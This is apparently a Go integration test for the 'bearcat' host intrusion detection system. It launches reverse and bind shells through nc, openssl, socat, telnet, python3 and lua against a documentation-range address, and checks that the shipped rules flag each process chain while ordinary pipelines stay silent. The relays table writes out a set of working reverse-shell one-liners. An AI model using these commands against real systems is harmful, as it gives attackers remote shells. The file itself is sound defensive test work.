package main

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/bearcat-hids/bearcat/test/kernel/guest"
)

// peer is the address that the shells of these tests reach: one of the guest's
// own, from the range for documentation.
const peer = "203.0.113.1"

// relayListener waits on a port, sends the commands and reads what comes back.
const relayListener = `import socket,sys
s=socket.create_server(("",int(sys.argv[1])));s.settimeout(60)
print("listening",flush=True)
c,_=s.accept();c.settimeout(12);c.sendall((sys.argv[2]+"\n").encode())
try:
    while c.recv(4096):pass
except OSError:pass
`

// relayClient connects to a port of the peer's from a port of its own, when
// somebody listens there, and lets the shell run for a while.
const relayClient = `import os,socket,sys,time
for _ in range(100):
    c=socket.socket();c.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)
    try:
        c.bind((os.environ["IP"],int(sys.argv[2])));c.connect((os.environ["IP"],int(sys.argv[1])));break
    except OSError: c.close();time.sleep(.2)
c.sendall(b"sleep 2; exit\n");time.sleep(4)
`

// relays are reverse shells that go through other processes, each with what is
// to be told of it.
func relays() []struct{ name, needs, ports, send, does, rule, chain string } {
	const (
		tool   = "Reverse shell through a network tool"
		term   = "Terminal of a shell joined to an outgoing connection"
		interp = "Interpreter runs commands for a connection"
		bind   = "Shell joined to an accepted connection"
	)
	return []struct{ name, needs, ports, send, does, rule, chain string }{
		{"R2", "nc", "7777 8888", "sleep 3; id", "sleep 9 | nc $IP 7777 | /bin/bash | nc $IP 8888", tool, "bash[] <-pipe- nc[] <-tcp- $IP:7777, -pipe-> nc[] -tcp-> $IP:8888"},
		{"R3", "openssl", "6660", "id", "mkfifo $D/f; timeout 25 sh -c '/bin/sh -i <$D/f 2>&1 | openssl s_client -quiet -connect $IP:6660 >$D/f'", tool,
			"sh[] <-fifo- openssl[] <-tcp- $IP:6660, -pipe-> openssl[] -tcp-> $IP:6660"},
		{"R5", "socat", "6060", "id", "timeout 25 socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:$IP:6060", term, "bash[] <-pty-> socat[] <-tcp-> $IP:6060"},
		{"R6", "nc", "6061", "id", "mkfifo $D/g; timeout 25 sh -c 'cat $D/g|/bin/sh -i 2>&1|nc $IP 6061 >$D/g'", tool,
			"sh[] <-pipe- cat[] <-fifo- nc[] <-tcp- $IP:6061, -pipe-> nc[] -tcp-> $IP:6061"},
		{"R7", "nc", "6062", "id", "mknod $D/bp p; timeout 25 sh -c 'nc $IP 6062 0<$D/bp | /bin/bash 1>$D/bp 2>$D/bp'", tool,
			"bash[] <-pipe- nc[] <-tcp- $IP:6062, -fifo-> nc[] -tcp-> $IP:6062"},
		{"R9", "telnet", "6064 5050", "sleep 3; id", "sleep 9 | telnet $IP 6064 | /bin/bash | telnet $IP 5050", tool, "bash[] <-pipe- telnet[] <-tcp- $IP:6064, -pipe-> telnet[] -tcp-> $IP:5050"},
		{"R10", "python3", "10006", "id", `timeout 25 python3 -c 'import socket,os,pty;s=socket.create_connection((os.environ["IP"],10006));[os.dup2(s.fileno(),i) for i in (0,1,2)];pty.spawn("/bin/bash")'`, term,
			"bash[] <-pty-> python3[] <-tcp-> $IP:10006"},
		{"R11", "python3", "6065", "id", `timeout 25 python3 -c 'import os,socket,subprocess as p;s=socket.create_connection((os.environ["IP"],6065));s.send(p.run(s.recv(99),shell=True,capture_output=True).stdout)'`, interp,
			"sh[] -pipe-> python3[] -tcp-> $IP:6065"},
		{"R12", "lua", "6066", "id", `timeout 25 lua -e 'local s=require("socket").tcp();s:connect(os.getenv("IP"),6066);local f=io.popen(s:receive());s:send(f:read("*a"))'`, interp,
			"sh[] -pipe-> lua[] -tcp-> $IP:6066"},
		{"bind", "nc", "", "", "mkfifo $D/b; python3 $D/client.py 6070 40404 & timeout 25 sh -c 'nc -l -p 6070 <$D/b | /bin/sh >$D/b'", bind,
			"sh[] <-pipe- nc[] <-tcp- $IP:40404, -fifo-> nc[] -tcp-> $IP:40404"},
	}
}

// relayAlert is what is looked at of an alert's line.
type relayAlert struct {
	Type  string `json:"type"`
	Rule  string `json:"rule"`
	Event struct {
		Shell *struct {
			Chain     string `json:"chain"`
			Confirmed bool   `json:"confirmed"`
		} `json:"shell"`
	} `json:"event"`
}

// TestRelayedShells runs reverse shells that go through pipes, FIFOs and
// terminals, with the shipped rules, and looks for the rule and the chain of
// each; and the same tools at ordinary work, for silence.
func TestRelayedShells(t *testing.T) {
	guest.Require(t)
	if guest.Name() != "5.10" && os.Getenv(guest.Everywhere) == "" {
		t.Skip("runs on 5.10 here, as the attacks run the same shells on 6.12; on all kernels with " + guest.Everywhere + "=all")
	}
	if out, err := exec.Command("ip", "addr", "add", peer+"/24", "dev", "lo").CombinedOutput(); err != nil && !strings.Contains(string(out), "exists") {
		t.Fatalf("the guest does not get the address: %s", out)
	}
	shipped, err := filepath.Abs("../../rules/bearcat")
	if err != nil {
		t.Fatal(err)
	}
	a := start(t, runOptions{args: []string{"--output", "json", "--rules", shipped}})
	for _, c := range relays() {
		t.Run(c.name, func(t *testing.T) {
			if _, err := exec.LookPath(c.needs); err != nil {
				t.Skipf("there is no %s: tools/deps/install.sh installs it", c.needs)
			}
			before := len(a.lines())
			does(t, c.ports, c.send, c.does)
			want := strings.ReplaceAll(c.chain, "$IP", peer)
			var seen []string
			for end := time.Now().Add(patience); time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
				seen = seen[:0]
				for _, l := range a.lines()[before:] {
					var x relayAlert
					if json.Unmarshal([]byte(l.text), &x) != nil || x.Type != "alert" || x.Event.Shell == nil {
						continue
					}
					got := withoutPids(x.Event.Shell.Chain)
					seen = append(seen, x.Rule+": "+got)
					if x.Rule == c.rule && got == want {
						t.Logf("%s: %s (confirmed: %v)", x.Rule, x.Event.Shell.Chain, x.Event.Shell.Confirmed)
						return
					}
				}
			}
			t.Errorf("%s is not told as %s, but as %q; shells: %+v", c.name, want, seen, a.status().Shells)
		})
	}
	before := len(a.lines())
	does(t, "7001", "echo hello", "nc $IP 7001 </dev/null | bash")
	does(t, "7002", "hello", "nc $IP 7002 </dev/null | cat | sh -c 'cat >/dev/null'")
	does(t, "", "", "echo 'echo hello' | sh | cat")
	s := a.status()
	if s.Shells == nil || s.Shells.Found == 0 {
		t.Errorf("the account of shells is %+v", s.Shells)
	}
	for _, l := range a.lines()[before:] {
		var x relayAlert
		if json.Unmarshal([]byte(l.text), &x) == nil && x.Type == "alert" && x.Event.Shell != nil {
			t.Errorf("ordinary work makes an alert of %s: %s", x.Rule, x.Event.Shell.Chain)
		}
	}
	if code, _ := a.stop(syscall.SIGTERM); code != 0 {
		t.Errorf("the agent ends with %d", code)
	}
}

// does runs commands with a listener on each of some ports.
func does(t *testing.T, ports, send, commands string) {
	t.Helper()
	dir := t.TempDir()
	for _, port := range strings.Fields(ports) {
		l := exec.Command("python3", "-c", relayListener, port, send+"; exit")
		out, err := l.StdoutPipe()
		if err != nil {
			t.Fatal(err)
		}
		if err := l.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() {
			_ = l.Process.Kill()
			_ = l.Wait()
		})
		if _, err := out.Read(make([]byte, 64)); err != nil {
			t.Fatalf("the listener on %s did not start: %v", port, err)
		}
	}
	if err := os.WriteFile(filepath.Join(dir, "client.py"), []byte(relayClient), 0o600); err != nil {
		t.Fatal(err)
	}
	script := filepath.Join(dir, "case.sh")
	if err := os.WriteFile(script, []byte(commands+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("timeout", "60", "sh", script)
	cmd.Env = append(os.Environ(), "IP="+peer, "D="+dir, "PATH=/usr/sbin:/usr/bin:/sbin:/bin")
	out, err := cmd.CombinedOutput()
	if t.Failed() {
		t.Logf("%s: %v\n%s", commands, err, out)
	}
}

// withoutPids takes the numbers out of a chain: bash[812] becomes bash[].
func withoutPids(chain string) string {
	var b strings.Builder
	in := false
	for _, r := range chain {
		switch {
		case r == '[':
			in = true
			b.WriteRune(r)
		case r == ']':
			in = false
			b.WriteRune(r)
		case !in:
			b.WriteRune(r)
		}
	}
	return b.String()
}
